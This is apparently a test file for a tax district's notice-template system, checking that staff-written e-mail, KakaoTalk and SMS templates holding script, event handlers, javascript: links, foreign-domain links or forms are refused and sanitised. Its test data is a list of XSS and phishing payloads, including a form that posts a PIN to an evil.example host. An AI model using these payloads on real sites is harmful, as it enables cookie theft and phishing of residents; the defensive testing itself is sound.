import assert from 'node:assert/strict';
import { before, describe, test } from 'node:test';
import fc from 'fast-check';
import { forEachEngine } from '../../../test-support/engines.ts';
import { AppError } from '../../platform/errors.ts';
import { renderMessage, sampleView, templateValues } from '../render/notice-render.ts';
import { builtinTemplates } from './templates.defaults.ts';
import { ALLOWED_VARIABLES, compileTemplate } from './templates.engine.ts';
import { inspectEmailHtml, sanitizeEmailHtml } from './template-html.ts';
import { checkFinalLink, checkTemplateLink, linkPolicy, linksInText } from './template-links.ts';
import { loadLinkDomains, replaceLinkDomains } from './link-domains.repository.ts';
import { loadTemplates, saveTemplate, type SaveTemplateInput } from './templates.repository.ts';
import { TemplateRefusal } from './templates.messages.ts';

// Templates are written by district staff and read by every taxpayer: a
// template that would run script, post a form elsewhere or send residents to
// a foreign address is refused when saved, naming what was refused in both
// languages (and nothing is saved); whatever is stored is sanitised again
// when a message is rendered; an ordinary template is stored and rendered
// exactly as written.

const PUBLIC_URL = 'https://tax.example.go.kr';
const policy = linkPolicy(PUBLIC_URL, ['gangnam.go.kr']);
const page = (body: string) => `<!doctype html>\n<html lang="ko">\n<head><meta charset="utf-8"><title>고지</title></head>\n<body>\n<p>{{taxpayer_name}}님 안내</p>\n${body}\n</body>\n</html>\n`;

/** Each hostile e-mail HTML and what the refusal must name (English message). */
const HOSTILE_HTML: [string, RegExp[]][] = [
  ['<script>alert(document.cookie)</script>', [/the element <script> is not allowed/]],
  ['<p onclick="steal()">x</p>', [/the event handler onclick on <p>/]],
  ['<img src=x onerror=alert(1)>', [/the event handler onerror on <img>/, /the address x is not allowed/]],
  ['<a href="javascript:alert(1)">pay</a>', [/the address javascript:alert\(1\) is not allowed/]],
  ['<a href="JaVaScRiPt:alert(1)">pay</a>', [/JaVaScRiPt:alert\(1\)/]],
  ['<a href="&#106;avascript:alert(1)">pay</a>', [/the address javascript:alert\(1\)/]],
  ['<a href="java\tscript:alert(1)">pay</a>', [/not allowed\. Links must be http/]],
  ['<a href="data:text/html;base64,PHNjcmlwdD4=">pay</a>', [/the address data:text\/html/]],
  ['<a href="//evil.example/pay">pay</a>', [/the address \/\/evil\.example\/pay is not allowed/]],
  ['<a href="https://evil.example/pay">pay</a>', [/https:\/\/evil\.example\/pay is not on an allowed domain\. Allowed domains: gangnam\.go\.kr, tax\.example\.go\.kr/]],
  ['<a href="https://gangnam.go.kr.evil.example/">pay</a>', [/not on an allowed domain/]],
  ['<a href="https://www.gangnam.go.kr@evil.example/">pay</a>', [/may not carry a user name or password/]],
  ['<a href="https://{{taxpayer_name}}.example/">pay</a>', [/has a variable in its domain/]],
  ['<form action="https://evil.example/steal" method="post"><input name="pin"><button>OK</button></form>', [/forms and their action https:\/\/evil\.example\/steal/, /the element <form>/, /the element <input>/, /the element <button>/]],
  ['<form action="/pay"><input name="pin"></form>', [/the element <form>/, /forms and their action \/pay/]],
  ['<iframe src="https://evil.example/"></iframe>', [/the element <iframe>/]],
  ['<object data="https://evil.example/x.swf"></object><embed src="x">', [/the element <object>/, /the element <embed>/]],
  ['<base href="https://evil.example/">', [/the element <base>/]],
  ['<link rel="stylesheet" href="https://evil.example/x.css">', [/the element <link>/]],
  ['<style>body{background:url(https://evil.example/track.png)}</style>', [/the element <style>/]],
  ['<meta http-equiv="refresh" content="0;url=https://evil.example/">', [/the element <meta>/, /the attribute http-equiv on <meta>/]],
  ['<svg onload="alert(1)"><circle r="1"/></svg>', [/the element <svg>/, /the event handler onload on <svg>/]],
  ['<p style="background:url(https://evil.example/track.png)">x</p>', [/the style on <p> may not hold url\(\)/]],
  ['<p style="width:expression(alert(1))">x</p>', [/the style on <p>/]],
  ['<img src="https://evil.example/track.png" alt="">', [/https:\/\/evil\.example\/track\.png is not on an allowed domain/]],
];

describe('the link policy', () => {
  test('links: {{link}}, or http(s) to an allowed host (and its subdomains), host written out; nothing else', () => {
    assert.equal(checkTemplateLink('{{link}}', policy), null);
    assert.equal(checkTemplateLink('https://www.gangnam.go.kr/tax?n={{notice_no}}', policy), null);
    assert.equal(checkTemplateLink('http://gangnam.go.kr', policy), null);
    assert.equal(checkTemplateLink('https://tax.example.go.kr/r/guide/refund', policy), null);
    assert.equal(checkTemplateLink('#top', policy, true), null);
    assert.equal(checkTemplateLink('#top', policy), 'not_http', 'a button needs a web address');
    assert.equal(checkTemplateLink('javascript:alert(1)', policy), 'not_http');
    assert.equal(checkTemplateLink('  javascript:alert(1)', policy), 'not_http');
    assert.equal(checkTemplateLink('tel:0234234000', policy), 'not_http');
    assert.equal(checkTemplateLink('/pay', policy), 'not_http');
    assert.equal(checkTemplateLink('https://evilgangnam.go.kr/', policy), 'foreign_host');
    assert.equal(checkTemplateLink('https:\\\\evil.example\\pay', policy), 'not_http');
    assert.equal(checkFinalLink('https:\\\\evil.example\\pay', policy), 'foreign_host', 'as a browser reads it');
    assert.equal(checkTemplateLink('https://{{district_name}}/pay', policy), 'slot_in_host');
    assert.equal(checkTemplateLink('https://gangnam.go.kr{{notice_no}}', policy), 'slot_in_host');
    assert.equal(checkTemplateLink('https://a:b@gangnam.go.kr/', policy), 'user_info');
    assert.equal(checkFinalLink('https://tax.example.go.kr/pay/gangnam/N-1?code=7KQ2M9XD', policy), null);
    assert.equal(checkFinalLink('https://evil.example/', policy), 'foreign_host');
    assert.deepEqual(linksInText('결제 https://evil.example/p?a=1 또는 www.gangnam.go.kr/x 그리고 https://{{x}}.evil {{link}}'), [
      'https://evil.example/p?a=1',
      'https://www.gangnam.go.kr/x',
      'https://{{x}}.evil',
    ]);
  });

  test('property: a link written as http(s) on a host outside the list is never allowed, however the host is dressed', () => {
    const label = fc.stringMatching(/^[a-z0-9]{1,10}$/);
    fc.assert(
      fc.property(fc.array(label, { minLength: 1, maxLength: 3 }), fc.constantFrom('http', 'https', 'HTTPS'), fc.string({ maxLength: 12 }), (labels, scheme, path) => {
        const host = `${labels.join('.')}.evil.example`;
        assert.notEqual(checkTemplateLink(`${scheme}://${host}/${encodeURIComponent(path)}`, policy), null);
        assert.notEqual(checkTemplateLink(`${scheme}://gangnam.go.kr@${host}/`, policy), null);
        assert.equal(checkTemplateLink(`${scheme}://${labels.join('.')}.gangnam.go.kr/${encodeURIComponent(path)}`, policy), null);
      }),
    );
  });
});

describe('the e-mail HTML policy', () => {
  test('each hostile input is found and named', () => {
    for (const [body, expected] of HOSTILE_HTML) {
      const error = (() => {
        const findings = inspectEmailHtml(page(body), policy);
        assert.ok(findings.length > 0, `nothing found in ${body}`);
        return new TemplateRefusal(findings.map((f) => ({ field: 'html_body', ...f })), policy);
      })();
      for (const pattern of expected) assert.match(error.messages.en, pattern, body);
      assert.match(error.messages.ko, /서식을 저장할 수 없습니다/, body);
    }
  });

  test('sanitised, nothing hostile survives; the text and allowed links stay', () => {
    for (const [body] of HOSTILE_HTML) {
      const clean = sanitizeEmailHtml(page(body), policy);
      assert.doesNotMatch(clean, /<script|<iframe|<object|<embed|<form|<input|<button|<base|<link|<style|<svg|http-equiv/i, body);
      assert.doesNotMatch(clean, /\son[a-z]+=/i, body);
      assert.doesNotMatch(clean, /javascript:|data:text|evil\.example|expression\(|url\(/i, body);
      assert.match(clean, /\{\{taxpayer_name\}\}님 안내/, body);
    }
    assert.equal(sanitizeEmailHtml('<a href="https://evil.example/">Pay here</a>', policy), '<a>Pay here</a>', 'the text of a refused link stays');
  });

  test('every built-in e-mail template passes and is sanitised to itself, byte for byte', () => {
    for (const kind of ['notice', 'reminder', 'arrears', 'guidance'] as const) {
      for (const locale of ['ko', 'en'] as const) {
        const html = builtinTemplates(kind, locale).email.htmlBody!;
        assert.deepEqual(inspectEmailHtml(html, policy), [], `${kind}/${locale}`);
        assert.equal(sanitizeEmailHtml(html, policy), html, `${kind}/${locale}`);
      }
    }
  });
});

forEachEngine('template safety', (ctx) => {
  const base = { districtCode: 'gangnam', kind: 'notice', locale: 'ko', updatedBy: 'official.kim' } as const;
  const email = (htmlBody: string): SaveTemplateInput => ({ ...base, channel: 'email', subject: '{{tax_item}} 고지', body: '{{taxpayer_name}}님 {{link}}', htmlBody });
  const kakao = (url: string): SaveTemplateInput => ({ ...base, channel: 'kakao', kakaoTemplateCode: 'GN_NOTICE_1', body: '[{{district_name}}] {{amount}}', buttons: [{ name: '납부하기', url }] });
  const stored = async (channel: string) =>
    (await ctx.db.query('SELECT 1 FROM message_templates WHERE district_code = $1 AND channel = $2', ['gangnam', channel])).rows.length;

  before(async () => {
    await ctx.db.query(`INSERT INTO districts (code, name_ko, name_en) VALUES ('gangnam', '강남구', 'Gangnam-gu'), ('seocho', '서초구', 'Seocho-gu')`);
    await replaceLinkDomains(ctx.db, { districtCode: 'gangnam', domains: ['Gangnam.go.kr', ' gangnam.go.kr '], actor: 'admin.park' });
  });

  test('the district’s domains: kept in the database, normalised, audited; anything else refused naming it', async () => {
    assert.deepEqual(await loadLinkDomains(ctx.db, 'gangnam'), ['gangnam.go.kr']);
    assert.deepEqual(await loadLinkDomains(ctx.db, 'seocho'), []);
    assert.deepEqual((await loadTemplates(ctx.db, 'gangnam', 'notice', 'ko')).linkDomains, ['gangnam.go.kr']);
    await assert.rejects(replaceLinkDomains(ctx.db, { districtCode: 'seocho', domains: ['https://seocho.go.kr/', 'seocho'], actor: 'x' }), (e: unknown) => {
      assert.ok(e instanceof AppError);
      assert.equal(e.code, 'link_domains_invalid');
      assert.match(e.messages.en, /https:\/\/seocho\.go\.kr\/, seocho/);
      assert.match(e.messages.ko, /도메인 이름만/);
      return true;
    });
    await assert.rejects(ctx.db.query(`INSERT INTO district_link_domains (district_code, domain, added_by) VALUES ('seocho', 'javascript:x', 't')`), /check/i);
    const audit = (await ctx.db.query<{ details: { after: string[] } }>(`SELECT details FROM audit_log WHERE action = 'templates.link_domains_replaced' AND district_code = 'gangnam'`)).rows;
    assert.deepEqual(audit.map((a) => a.details.after), [['gangnam.go.kr']]);
  });

  test('each hostile e-mail template is refused at save with a bilingual message naming what, and nothing is saved', async () => {
    for (const [body, expected] of HOSTILE_HTML) {
      await assert.rejects(saveTemplate(ctx.db, email(page(body)), { publicUrl: PUBLIC_URL }), (error: unknown) => {
        assert.ok(error instanceof TemplateRefusal, body);
        assert.equal(error.code, 'template_unsafe');
        assert.equal(error.status, 422);
        for (const pattern of expected) assert.match(error.messages.en, pattern, body);
        assert.match(error.messages.ko, /허용되지 않는 내용이 있어 바꾸지 않고 거절했습니다/);
        assert.ok(error.problems.every((p) => p.field === 'html_body'));
        return true;
      });
    }
    assert.equal(await stored('email'), 0);
  });

  test('KakaoTalk buttons and addresses in text: only http(s) to allowed domains', async () => {
    for (const [url, pattern] of [
      ['javascript:alert(1)', /buttons\[0\]\.url: the address javascript:alert\(1\) is not allowed/],
      ['https://evil.example/pay', /buttons\[0\]\.url: the address https:\/\/evil\.example\/pay is not on an allowed domain/],
      ['//evil.example', /not allowed\. Links must be http/],
      ['tel:021234567', /tel:021234567/],
    ] as const) {
      await assert.rejects(saveTemplate(ctx.db, kakao(url), { publicUrl: PUBLIC_URL }), (e: unknown) => e instanceof TemplateRefusal && pattern.test(e.messages.en));
    }
    assert.equal(await stored('kakao'), 0);
    await assert.rejects(
      saveTemplate(ctx.db, { ...base, channel: 'sms', body: '[{{district_name}}] 납부 https://evil.example/p {{amount}}' }),
      (e: unknown) => e instanceof TemplateRefusal && /body: the address https:\/\/evil\.example\/p is not on an allowed domain/.test(e.messages.en),
    );
    // The payment page, the district's domain and the service's own address pass.
    const saved = await saveTemplate(ctx.db, { ...kakao('{{link}}'), buttons: [{ name: '납부하기', url: '{{link}}' }, { name: '안내', url: 'https://www.gangnam.go.kr/tax' }, { name: '환급', url: 'https://tax.example.go.kr/r/guide/refund' }] }, { publicUrl: PUBLIC_URL });
    assert.equal(saved.buttons.length, 3);
  });

  test('an ordinary template is saved exactly as written and rendered unchanged', async () => {
    const html = builtinTemplates('notice', 'ko').email.htmlBody!.replace(
      '</main>',
      '<p><a href="https://www.gangnam.go.kr/tax?no={{notice_no}}" target="_blank" rel="noopener">세무과 안내</a> <img src="https://tax.example.go.kr/logo.png" alt="강남구" width="80"></p>\n  </main>',
    ).trimEnd(); // the form trims what it saves
    const saved = await saveTemplate(ctx.db, email(html), { publicUrl: PUBLIC_URL });
    assert.equal(saved.htmlBody, html);
    assert.equal((await ctx.db.query<{ html_body: string }>(`SELECT html_body FROM message_templates WHERE district_code = 'gangnam' AND channel = 'email'`)).rows[0]!.html_body, html);

    const view = { ...sampleView('notice', 'ko', '강남구'), link: `${PUBLIC_URL}/pay/gangnam/N-1?code=7KQ2M9XD` };
    const set = await loadTemplates(ctx.db, 'gangnam', 'notice', 'ko');
    const rendered = renderMessage(view, 'email', set);
    assert.equal(rendered.html, compileTemplate(html, ALLOWED_VARIABLES.notice).render(templateValues(view), 'html'), 'rendered as written');
    assert.match(rendered.html, /<a href="https:\/\/www\.gangnam\.go\.kr\/tax\?no=2026-07-0001234" target="_blank" rel="noopener">/);
    assert.match(rendered.html, /<a href="https:\/\/tax\.example\.go\.kr\/pay\/gangnam\/N-1\?code=7KQ2M9XD"/);
  });

  test('at render, whatever is stored is sanitised: a template saved before the check cannot reach a resident', async () => {
    // Stored behind the check's back, as a template saved before it existed would be.
    await ctx.db.query(
      `INSERT INTO message_templates (district_code, kind, channel, locale, kakao_template_code, subject, body, html_body, buttons, updated_by)
       VALUES ('seocho', 'notice', 'email', 'ko', NULL, '고지', '{{link}}', $1, '[]', 'old'),
              ('seocho', 'notice', 'kakao', 'ko', 'SC_1', '{{amount}}', '{{amount}}', NULL, $2::jsonb, 'old')`,
      [
        page('<script>alert(1)</script><p onclick="x()">안내</p><a href="javascript:alert(1)">누르기</a><a href="https://evil.example/pay">납부</a><form action="https://evil.example"><input name="pin"></form><a href="{{link}}">고지서</a>'),
        JSON.stringify([{ name: '악성', url: 'javascript:alert(1)' }, { name: '외부', url: 'https://evil.example/pay' }, { name: '납부하기', url: '{{link}}' }]),
      ],
    );
    const view = { ...sampleView('notice', 'ko', '서초구'), link: `${PUBLIC_URL}/pay/seocho/N-1?code=7KQ2M9XD` };
    const set = await loadTemplates(ctx.db, 'seocho', 'notice', 'ko');
    const mail = renderMessage(view, 'email', set);
    assert.doesNotMatch(mail.html, /<script|onclick|javascript:|evil\.example|<form|<input/);
    assert.match(mail.html, /<p>안내<\/p><a>누르기<\/a><a>납부<\/a><a href="https:\/\/tax\.example\.go\.kr\/pay\/seocho\/N-1\?code=7KQ2M9XD">고지서<\/a>/);
    const talk = renderMessage(view, 'kakao', set);
    assert.deepEqual(talk.buttons, [{ name: '납부하기', url: view.link }]);
  });
});
